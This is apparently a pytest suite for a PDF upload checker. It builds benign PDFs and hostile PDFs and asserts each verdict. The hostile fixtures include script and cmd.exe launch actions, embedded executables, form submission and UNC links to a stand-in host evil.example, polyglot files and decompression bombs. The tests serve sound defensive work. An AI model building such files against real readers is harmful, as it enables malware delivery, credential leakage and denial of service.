"""Which PDFs are let in: each attack is a file as it would be sent."""

import io
import time
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from matchmaker.core import pdf as inspection
from matchmaker.core.pdf_inspection import judge
from tests.files import ACTIVE_PDF, PDF, pdf

PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


def make_pdf(change=None, **how) -> bytes:
    """A PDF of one page after `change`, as pikepdf writes it."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **how)
    return out.getvalue()


def opening(**action):
    def change(document):
        document.Root.OpenAction = Dictionary(**action)

    return change


def names(key: str, value):
    def change(document):
        document.Root.Names = Dictionary()
        document.Root.Names[key] = Dictionary(Names=Array([String("x"), document.make_indirect(value(document))]))

    return change


def form(**content):
    def change(document):
        document.Root.AcroForm = Dictionary(**content)

    return change


def link(**action):
    def change(document):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])

    return change


def annotation(kind: str):
    def change(document):
        document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"))])

    return change


def page_action(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x")))


def attached(document):
    """An EXE without /Type."""
    return Dictionary(F=String("a.exe"), EF=Dictionary(F=document.make_stream(b"MZ")))


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("a.exe", "MZ")
    return out.getvalue()


def to_first_page(document):
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


QUIET = {
    "one empty page": make_pdf(),
    "objects packed in streams": make_pdf(**PACKED),
    "it begins at a page": make_pdf(to_first_page),
    "a link to a web page": make_pdf(link(S=Name.URI, URI=String("https://example.org/a:b"))),
    "a link within it": make_pdf(link(S=Name.GoTo, D=String("end"))),
    "a form to fill in": make_pdf(form(Fields=Array([]))),
    "linearised": make_pdf(linearize=True),
    "written by hand": PDF,
}
SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
REFUSED = {
    "a script at opening": (ACTIVE_PDF, "active"),
    "a script in escaped names": (pdf(root=b"/Open#41ction<</S/J#61vaScript/J#53(x)>>"), "active"),
    "a script packed in an object stream": (make_pdf(opening(**SCRIPT), **PACKED), "active"),
    "a script by name": (make_pdf(names("/JavaScript", lambda _document: Dictionary(**SCRIPT))), "active"),
    "a script when a page opens": (make_pdf(page_action), "active"),
    "a program is started": (make_pdf(opening(S=Name.Launch, F=String("cmd.exe"))), "active"),
    "a program behind a link": (make_pdf(link(S=Name.Launch, F=String("cmd.exe")), **PACKED), "active"),
    "an attached program": (make_pdf(names("/EmbeddedFiles", attached), **PACKED), "active"),
    "an attachment on the page": (make_pdf(annotation("FileAttachment")), "active"),
    "a film": (make_pdf(annotation("RichMedia")), "active"),
    "a form that is sent": (make_pdf(link(S=Name.SubmitForm, F=String("https://evil.example"))), "active"),
    "an XFA form": (make_pdf(form(XFA=String("<xdp/>"))), "active"),
    "a file of another computer": (make_pdf(link(S=Name.GoToR, F=String(r"\\evil.example\a"))), "active"),
    "a link to another computer": (make_pdf(link(S=Name.URI, URI=String(r"\\evil.example\a"))), "active"),
    "a link to a file": (make_pdf(link(S=Name.URI, URI=String("file:///c:/a.exe"))), "active"),
    "a link with a script": (make_pdf(link(S=Name.URI, URI=String("JavaScript:x()"))), "active"),
    "a password": (make_pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
    "a password only against changes": (make_pdf(encryption=pikepdf.Encryption(owner="o", user="")), "encrypted"),
    "a web page that calls itself PDF": (b"%PDF-<html><script>alert(1)</script>", "mixed"),
    "an archive behind it": (PDF + archive(), "mixed"),
    "an archive inside it": (PDF[:9] + b"%" + archive() + b"\n" + PDF[9:], "mixed"),
    "a program behind it": (PDF + b"MZ\x90\x00", "mixed"),
    "half of it": (PDF[: len(PDF) // 2], "broken"),
    "nothing but a head": (b"%PDF-1.7\n", "broken"),
    "random bytes": (b"%PDF-1.7\n" + bytes(range(256)) * 40, "broken"),
    "a page tree that holds itself": (PDF.replace(b"Kids[3 0 R]", b"Kids[2 0 R]"), "broken"),
}


@pytest.mark.parametrize("content", QUIET.values(), ids=QUIET.keys())
def test_a_pdf_that_only_shows_something_is_let_in(content):
    assert judge(content) == "quiet"


@pytest.mark.parametrize(("content", "verdict"), REFUSED.values(), ids=REFUSED.keys())
def test_a_pdf_that_does_more_is_refused_with_its_reason(content, verdict):
    assert judge(content) == verdict


def test_a_pdf_with_too_many_objects_is_refused():
    assert judge(pdf(more=[b"null"] * 100_001)) == "large"


@pytest.mark.parametrize("filters", [1, 2])
def test_a_pdf_whose_page_unpacks_to_hundreds_of_megabytes_is_refused(filters):
    content = b" " * 300_000_000
    for _number in range(filters):
        content = zlib.compress(content, 9)

    def bomb(document):
        stream = document.make_stream(b"")
        stream.write(content, filter=Array([Name.FlateDecode] * filters))
        document.pages[0].Contents = stream

    assert judge(make_pdf(bomb)) == "large"


def test_a_process_of_its_own_gives_the_same_verdict():
    assert inspection.inspect_pdf(PDF) == "quiet"
    assert inspection.inspect_pdf(ACTIVE_PDF) == "active"


@pytest.mark.slow
def test_a_pdf_that_takes_too_much_memory_is_refused_in_bounded_time():
    """An object stream of 2 GB in 2 MB: it would have to be unpacked to see what is in it."""
    import zlib

    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(b" " * 10_000_000) for _ in range(200)) + packer.flush()
    content = make_pdf(lambda document: None, **PACKED)
    start = content.index(b"/ObjStm")
    begin = content.index(b"stream\n", start) + 7
    end = content.index(b"endstream", begin)
    head = content[:begin].replace(b"/Length %d" % (end - begin - 1), b"/Length %d" % len(bomb))
    began = time.monotonic()
    assert inspection.inspect_pdf(head + bomb + b"\n" + content[end:]) in inspection.REFUSALS
    assert time.monotonic() - began < inspection.MAX_SECONDS + 10


def test_a_document_that_never_ends_is_stopped(monkeypatch, tmp_path):
    endless = tmp_path / "endless.py"
    endless.write_text("while True: pass")
    monkeypatch.setattr(inspection, "INSPECTION", endless)
    monkeypatch.setattr(inspection, "MAX_SECONDS", 1)
    assert inspection.inspect_pdf(PDF) == "broken"


@pytest.mark.parametrize(("sides", "verdict"), [((9_000, 9_000), "quiet"), ((1, 1), "large")])
def test_a_picture_may_be_as_large_as_its_sides_say(sides, verdict):
    def picture(document):
        stream = document.make_stream(b"", Subtype=Name.Image, Width=sides[0], Height=sides[1])
        stream.write(zlib.compress(b" " * 243_000_000, 1), filter=Name.FlateDecode)
        document.pages[0].Contents = stream

    assert judge(make_pdf(picture)) == verdict
